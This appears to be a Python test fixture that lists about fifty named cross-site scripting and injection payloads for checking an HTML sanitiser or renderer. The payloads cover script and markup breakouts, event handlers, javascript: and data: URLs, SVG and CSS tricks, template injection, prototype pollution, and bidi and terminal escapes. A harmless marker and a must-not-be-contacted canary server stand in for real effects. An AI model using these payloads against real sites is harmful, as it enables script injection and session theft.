"""Texts that attack a page: markup, handlers, URLs, styles, templates and broken-out data."""

from __future__ import annotations

RUN = "window.broken=1"
"""What every script among them does."""


def list_payloads(canary: str) -> dict[str, str]:
    """By name; `canary` is the address of a server that must get no request."""
    return {
        "script": f"<script>{RUN}</script>",
        "script with source": f"<script src={canary}/x.js></script>",
        "module script": f'<script type=module>{RUN};fetch("{canary}")</script>',
        "data breakout": f"</script><script>{RUN}</script>",
        "JSON breakout": f'"}}]}}</script><script>{RUN}</script>',
        "style breakout": f"</style><script>{RUN}</script>",
        "title breakout": f"</title><script>{RUN}</script>",
        "textarea breakout": f"</textarea><script>{RUN}</script>",
        "comment breakout": f"--><script>{RUN}</script><!--",
        "CDATA breakout": f"]]><script>{RUN}</script>",
        "attribute breakout": f'"\' onmouseover={RUN} onfocus={RUN} autofocus x="',
        "attribute and element": f"\"'><img src=x onerror={RUN}>",
        "image handler": f"<img src=x onerror={RUN}>",
        "image request": f"<img src={canary}/i.png srcset={canary}/j.png>",
        "SVG handler": f"<svg onload={RUN}></svg>",
        "SVG script": f"<svg><script>{RUN}</script></svg>",
        "SVG animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
        "SVG foreign object": f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
        "SVG use": f"<svg><use href={canary}/u.svg#x></use></svg>",
        "MathML": f'<math><mtext><a href="javascript:{RUN}">x</a></mtext></math>',
        "details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
        "body handler": f"<body onload={RUN} onpageshow={RUN}>",
        "media": f"<video src={canary}/v onerror={RUN}></video><audio src=x onerror={RUN}>",
        "input": f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}>",
        "marquee": f"<marquee onstart={RUN}>x</marquee>",
        "javascript link": f'<a href="javascript:{RUN}" ping={canary}>javascript:{RUN}</a>',
        "encoded javascript link": f'<a href="java&#x09;script&colon;{RUN}">x</a> &#60;script&#62;',
        "data URL": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
        "iframe": f'<iframe src="javascript:{RUN}"></iframe><iframe src={canary}></iframe>',
        "nested iframe": f"<iframe srcdoc=\"<iframe srcdoc='<script>parent.{RUN}</script>'>\">",
        "object": f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src={canary}>',
        "meta refresh": f'<meta http-equiv=refresh content="0;url={canary}">',
        "base": f"<base href={canary}/><base target=_blank>",
        "form": f"<form action={canary} id=f><button formaction={canary}>x</button></form>",
        "link": f"<link rel=stylesheet href={canary}/c.css><link rel=prefetch href={canary}/p>",
        "style import": f"<style>@import url({canary}/s.css);*{{background:url({canary}/b)}}</style>",
        "style attribute": f'<p style="background:url({canary}/b);position:fixed;inset:0">x</p>',
        "style expression": f"color:expression({RUN});x:url(javascript:{RUN})",
        "template": "{{constructor.constructor('" + RUN + "')()}} ${" + RUN + "} <%= 7*7 %> #{7*7}",
        "DOM clobbering": "<a id=run-name><form name=location><input name=attributes></form>",
        "prototype": '{"__proto__": {"broken": 1}, "constructor": {"prototype": {"broken": 1}}}',
        "mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        "null bytes": f"<scr\x00ipt>{RUN}</scr\x00ipt><img src=x o\x00nerror={RUN}>",
        "UTF-7": "+ADw-script+AD4-window.broken=1+ADw-/script+AD4-",
        "overlong brackets": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u2039img\u203a",
        "bidi": "\u202e\u2066gnp.exe\u2069\u200f\u202d",
        "lone surrogate": "\ud800\udc00\ud800 half",
        "terminal": "\x1b]8;;" + canary + "\x1b\\x\x1b]52;c;eA==\x07\x9b2J",
        "huge string": "A" * 10_000 + f"<script>{RUN}</script>",
        "many lines": f"<script>{RUN}</script>\n" * 500,
        "combining marks": "Z" + "\u0335\u0321\u0489" * 500,
    }
